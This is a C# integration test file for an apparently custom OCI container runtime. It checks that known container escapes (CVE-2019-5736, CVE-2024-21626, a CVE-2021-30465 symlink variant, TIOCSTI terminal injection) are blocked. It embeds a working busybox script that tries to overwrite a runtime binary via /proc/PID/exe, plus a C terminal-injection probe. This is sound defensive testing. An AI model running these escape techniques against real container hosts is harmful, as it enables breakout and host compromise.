using Moat.Oci;
using Moat.Tests.Integration.Infrastructure;

namespace Moat.Tests.Integration;

/// <summary>The known escapes, each closed: CVE-2019-5736, CVE-2024-21626, the CVE-2021-30465 symlink class.</summary>
public sealed class HardeningTests
{
    /// <summary>
    /// CVE-2019-5736: the init runs from the binary seen through a read-only overlayfs mounted nowhere
    /// (or, without overlayfs, a sealed memfd copy), so /proc/PID/exe cannot reach the moat binary.
    /// </summary>
    [Fact]
    public void InitBinaryCannotBeOverwrittenThroughProcExe()
    {
        using var bundle = new TestBundle("sleep", "1000");
        var id = bundle.NewId();
        bundle.Create(id).Ok();
        var pid = TestBundle.State(id).GetProperty("pid").GetInt32();
        var exe = new FileInfo($"/proc/{pid}/exe").LinkTarget!;
        // The overlay is mounted nowhere, so the link names the file at the overlay's root.
        Assert.Equal("/" + Path.GetFileName(MoatCli.Binary), exe);
        Assert.NotEqual(Path.GetFullPath(MoatCli.Binary), exe);
        var ex = Assert.ThrowsAny<IOException>(() => File.OpenWrite($"/proc/{pid}/exe").Dispose());
        Assert.Contains("Read-only file system", ex.Message);
        // Not even a copy-up: the overlay has no upper layer.
        Assert.Contains("Read-only file system", Assert.ThrowsAny<IOException>(() => File.Open($"/proc/{pid}/exe", FileMode.Open, FileAccess.ReadWrite).Dispose()).Message);
        Assert.True(new FileInfo(MoatCli.Binary).Length > 0);
    }

    /// <summary>Both forms of the protected binary: the overlay view, and the sealed memfd copy taken when overlayfs cannot be used.</summary>
    [Fact]
    public void ProtectedBinaryIsReadOnlyInBothForms()
    {
        var empty = Path.Combine(Path.GetTempPath(), $"moat-it-empty-{Environment.ProcessId}");
        try
        {
            using (var overlay = Moat.Runtime.Create.SealedBinary.Open(empty, MoatCli.Binary))
            {
                Assert.Equal("/" + Path.GetFileName(MoatCli.Binary), new FileInfo($"/proc/self/fd/{overlay.Fd}").LinkTarget);
                Assert.Contains("Read-only file system", Assert.ThrowsAny<IOException>(() => File.OpenWrite($"/proc/self/fd/{overlay.Fd}").Dispose()).Message);
            }
            // The binary's own directory as the "empty" layer overlaps it: overlayfs is not tried.
            using var copy = Moat.Runtime.Create.SealedBinary.Open(Path.GetDirectoryName(Path.GetFullPath(MoatCli.Binary))!, MoatCli.Binary);
            Assert.StartsWith("/memfd:moat", new FileInfo($"/proc/self/fd/{copy.Fd}").LinkTarget);
            using (var read = File.OpenRead($"/proc/self/fd/{copy.Fd}"))
                Assert.Equal(new FileInfo(MoatCli.Binary).Length, read.Length);
            // The seals refuse every write (opening for writing itself is allowed).
            using var writer = new FileStream($"/proc/self/fd/{copy.Fd}", FileMode.Open, FileAccess.Write, FileShare.ReadWrite, bufferSize: 0);
            var refused = Assert.ThrowsAny<Exception>(() => writer.Write([0]));
            Assert.True(refused is UnauthorizedAccessException { InnerException.Message: "Operation not permitted" }, refused.ToString());
        }
        finally
        {
            Directory.Delete(empty);
        }
    }

    /// <summary>
    /// The container's side of CVE-2019-5736 through exec: it watches for each new process in its pid
    /// namespace, opens that process's executable the moment the process exists, and once nothing
    /// executes the file any more (ETXTBSY ends when the exec's runtime exits) writes into it. The
    /// container's own busybox is left alone. Every attempt leaves one line in /tmp/attack.log.
    /// </summary>
    const string ExeAttack = """
        #!/bin/busybox sh
        exec 2>/dev/null
        log=/tmp/attack.log
        attack() {
          target=$(readlink /proc/self/fd/3)
          case "$target" in /bin/busybox) return;; esac
          i=0
          while [ $i -lt 3000 ]; do
            if echo PWNED 2>/tmp/attack.err >>/proc/self/fd/3; then echo "overwrote $target" >>$log; return; fi
            case "$(cat /tmp/attack.err)" in
              *busy*) usleep 10000; i=$((i+1));;
              *) echo "refused $target: $(cat /tmp/attack.err)" >>$log; return;;
            esac
          done
          echo "gave up on $target" >>$log
        }
        echo ready >/tmp/attack.ready
        # The next pid is predictable: open its executable as soon as it exists. The last pid given
        # out in this namespace ends /proc/loadavg (ns_last_pid cannot be read a byte at a time).
        while :; do
          read _ _ _ _ last </proc/loadavg
          n=$((last+1))
          until command exec 3</proc/$n/exe; do
            read _ _ _ _ last </proc/loadavg
            [ "$last" -gt "$n" ] && n=$last
          done
          attack
          exec 3<&-
        done
        """;

    /// <summary>
    /// CVE-2019-5736 through `exec` into a privileged container (every capability, no seccomp, nothing
    /// masked or read-only: runc and crun hold there too). The container's /bin/sh is `#!/proc/self/exe`
    /// and a loop started by its init tries to write into the executable of every process exec puts into
    /// the container; the moat binary must come out unchanged. The binary under attack is a copy of
    /// bin/moat-runtime, so that a failing test cannot destroy the build.
    /// </summary>
    [Fact]
    public void ExecIntoAPrivilegedContainerCannotOverwriteTheBinary()
    {
        using var bundle = new TestBundle("/bin/busybox", "sh", "-c", "/bin/attack & exec /bin/busybox sleep 1000");
        var binary = Path.Combine(bundle.Directory, "moat-under-attack");
        File.Copy(MoatCli.Binary, binary);
        File.SetUnixFileMode(binary, (UnixFileMode)Convert.ToInt32("755", 8));
        var original = System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(binary));

        var held = HeldCapabilities();
        bundle.Spec.Process!.Capabilities = new LinuxCapabilities
        {
            Bounding = [.. held], Effective = [.. held], Inheritable = [.. held], Permitted = [.. held], Ambient = [.. held],
        };
        bundle.Spec.Process.NoNewPrivileges = false;
        bundle.Spec.Root!.Readonly = false;
        bundle.Spec.Linux!.Seccomp = null;
        bundle.Spec.Linux.MaskedPaths = null;
        bundle.Spec.Linux.ReadonlyPaths = null;
        var sh = Path.Combine(bundle.Rootfs, "bin", "sh");
        File.Delete(sh);
        File.WriteAllText(sh, "#!/proc/self/exe\n");
        File.WriteAllText(Path.Combine(bundle.Rootfs, "bin", "attack"), ExeAttack.Replace("\r", "") + "\n");
        foreach (var script in new[] { sh, Path.Combine(bundle.Rootfs, "bin", "attack") })
            File.SetUnixFileMode(script, (UnixFileMode)Convert.ToInt32("755", 8));
        bundle.Write();

        MoatCli.Result Moat(params string[] args) => MoatCli.Exec(binary, ["--root", MoatCli.StateRoot, .. args]);
        var id = bundle.NewId("cve");
        Moat("run", "--detach", "--bundle", bundle.Directory, id).Ok();
        var log = Path.Combine(bundle.Rootfs, "tmp", "attack.log");
        Wait.Until(() => File.Exists(Path.Combine(bundle.Rootfs, "tmp", "attack.ready")), "the attack loop to start");
        string[] Attempts() => File.Exists(log) ? File.ReadAllLines(log) : [];
        bool Unchanged() => System.Security.Cryptography.SHA256.HashData(File.ReadAllBytes(binary)).AsSpan().SequenceEqual(original);

        for (var i = 0; i < 5 && Unchanged(); i++)
        {
            var before = Attempts().Length;
            Moat("exec", id, "/bin/sh");
            // The loop may miss a process that came and went between two looks; it reports every one it caught.
            var deadline = DateTime.UtcNow.AddSeconds(10);
            while (Attempts().Length == before && DateTime.UtcNow < deadline)
                Thread.Sleep(20);
        }

        var attempts = Attempts();
        Assert.True(Unchanged(), "the container overwrote the moat binary:\n" + string.Join('\n', attempts));
        Assert.DoesNotContain(attempts, a => a.StartsWith("overwrote", StringComparison.Ordinal));
        // The attack did reach an exec'd process's executable, and was refused: the test was not vacuous.
        Assert.Contains(attempts, a => a.StartsWith("refused", StringComparison.Ordinal));
    }

    /// <summary>The capabilities this process holds in its bounding set (the runtime cannot grant more).</summary>
    static List<string> HeldCapabilities()
    {
        var line = File.ReadLines("/proc/self/status").First(l => l.StartsWith("CapBnd:", StringComparison.Ordinal));
        var mask = Convert.ToUInt64(line["CapBnd:".Length..].Trim(), 16);
        return Capabilities.Names.Where((_, number) => (mask & (1UL << number)) != 0).ToList();
    }

    /// <summary>CVE-2024-21626: no host descriptor reaches the container process.</summary>
    [Fact]
    public void NoHostDescriptorLeaksIntoTheContainer()
    {
        using var bundle = new TestBundle();
        // ls opens the directory itself as fd 3.
        Assert.Equal("0\n1\n2\n3\n", bundle.Sh("ls /proc/self/fd"));
    }

    /// <summary>CVE-2024-21626: a working directory through /proc/self/fd cannot point outside the root.</summary>
    [Theory]
    [InlineData(3)]
    [InlineData(4)]
    [InlineData(5)]
    [InlineData(7)]
    public void WorkingDirectoryCannotEscapeThroughALeakedDescriptor(int fd)
    {
        using var bundle = new TestBundle("sh", "-c", "pwd; ls /../../../..");
        bundle.Spec.Process!.Cwd = $"/proc/self/fd/{fd}";
        var result = bundle.Run();
        // Either refused, or the directory is one of the container's own.
        if (result.ExitCode == 0)
            Assert.DoesNotContain("work", result.Stdout);
        else
            Assert.Contains("cwd", result.Stderr + result.Stdout, StringComparison.OrdinalIgnoreCase);
    }

    /// <summary>CVE-2021-30465 class: a symlink in the rootfs cannot redirect a mount onto the host.</summary>
    [Fact]
    public void SymlinkInRootfsCannotRedirectAMountToTheHost()
    {
        using var bundle = new TestBundle();
        var hostTarget = Directory.CreateTempSubdirectory("moat-it-target-").FullName;
        try
        {
            File.CreateSymbolicLink(Path.Combine(bundle.Rootfs, "escape"), hostTarget);
            File.CreateSymbolicLink(Path.Combine(bundle.Rootfs, "dotdot"), "../../../../../../" + hostTarget.TrimStart('/'));
            bundle.Spec.Mounts!.Add(new Mount { Destination = "/escape/sub", Type = "tmpfs", Source = "tmpfs" });
            bundle.Spec.Mounts.Add(new Mount { Destination = "/dotdot/sub2", Type = "tmpfs", Source = "tmpfs" });
            bundle.Spec.Root!.Readonly = false;
            bundle.Sh("grep -c ' /tmp/moat-it-target-.*/sub' /proc/self/mountinfo || true");
            Assert.False(Directory.Exists(Path.Combine(hostTarget, "sub")), "the mount target was created on the host");
            Assert.False(Directory.Exists(Path.Combine(hostTarget, "sub2")), "the mount target was created on the host");
            // The targets were made inside the rootfs, where the links resolve when "/" is the rootfs.
            Assert.True(Directory.Exists(Path.Combine(bundle.Rootfs, hostTarget.TrimStart('/'), "sub")));
            Assert.DoesNotContain(hostTarget, File.ReadAllText("/proc/self/mountinfo"));
        }
        finally
        {
            Directory.Delete(hostTarget, recursive: true);
        }
    }

    /// <summary>Tries to push one character into the input of the terminal on its stdin (TIOCSTI).</summary>
    const string TiocstiProbe = """
        #include <errno.h>
        #include <stdio.h>
        #include <string.h>
        #include <sys/ioctl.h>
        int main(void)
        {
            char c = '#';
            if (ioctl(0, TIOCSTI, &c) == 0) {
                puts("TIOCSTI injected");
                return 0;
            }
            printf("TIOCSTI refused: %s\n", strerror(errno));
            return 1;
        }
        """;

    /// <summary>script(1) runs the command on a new pty that is its controlling terminal and stdio, as an interactive shell would.</summary>
    static MoatCli.Result UnderAPty(string command) =>
        MoatCli.Exec("/usr/bin/script", ["-qec", command, "/dev/null"]);

    /// <summary>
    /// A container started without a terminal from an interactive shell must not be able to type
    /// into that shell (TIOCSTI on the caller's terminal, which it shares as stdin): the process
    /// gets a session of its own (setsid), so that terminal is not its controlling terminal, and
    /// TIOCSTI on another terminal needs CAP_SYS_ADMIN. For run and for exec.
    /// </summary>
    [Fact]
    public void ContainerWithoutATerminalCannotTypeIntoTheCallersTerminal()
    {
        using var bundle = new TestBundle("/bin/tiocsti");
        var probe = Path.Combine(bundle.Rootfs, "bin", "tiocsti");
        StaticProgram.Compile(TiocstiProbe, probe);
        // The control: in the caller's session, without any capability, the probe does inject
        // (so its refusal below is the session's doing, not a broken probe or a host setting).
        var control = UnderAPty($"/usr/bin/setpriv --reuid 65534 --regid 65534 --clear-groups --inh-caps=-all --bounding-set=-all {probe}");
        Assert.True(control.Stdout.Contains("TIOCSTI injected"), $"the probe cannot inject even in the caller's session: {control}");

        bundle.Write();
        var runId = bundle.NewId("tiocsti");
        var run = UnderAPty($"'{MoatCli.Binary}' --root '{MoatCli.StateRoot}' run --bundle '{bundle.Directory}' {runId}");
        Assert.Contains("TIOCSTI refused: Operation not permitted", run.Stdout);
        Assert.DoesNotContain("injected", run.Stdout);

        bundle.Args("sleep", "1000");
        var id = bundle.NewId("tiocsti-exec");
        bundle.Create(id).Ok();
        MoatCli.Run("start", id).Ok();
        var exec = UnderAPty($"'{MoatCli.Binary}' --root '{MoatCli.StateRoot}' exec {id} /bin/tiocsti");
        Assert.Contains("TIOCSTI refused: Operation not permitted", exec.Stdout);
        Assert.DoesNotContain("injected", exec.Stdout);
    }

    [Fact]
    public void PreservedDescriptorsArePassedAndNothingElse()
    {
        using var bundle = new TestBundle("sh", "-c", "ls /proc/self/fd; cat <&3");
        bundle.Write();
        var id = bundle.NewId();
        var data = Path.Combine(bundle.Directory, "fd3.txt");
        File.WriteAllText(data, "through fd 3\n");
        // A shell gives the runtime fd 3 open on the file; --preserve-fds 1 hands exactly it on.
        var result = MoatCli.Exec("/bin/sh", ["-c", $"exec 3<'{data}'; exec '{MoatCli.Binary}' --root '{MoatCli.StateRoot}' run --preserve-fds 1 --bundle '{bundle.Directory}' {id}"]).Ok();
        Assert.Equal("0\n1\n2\n3\n4\nthrough fd 3\n", result.Stdout);
    }
}
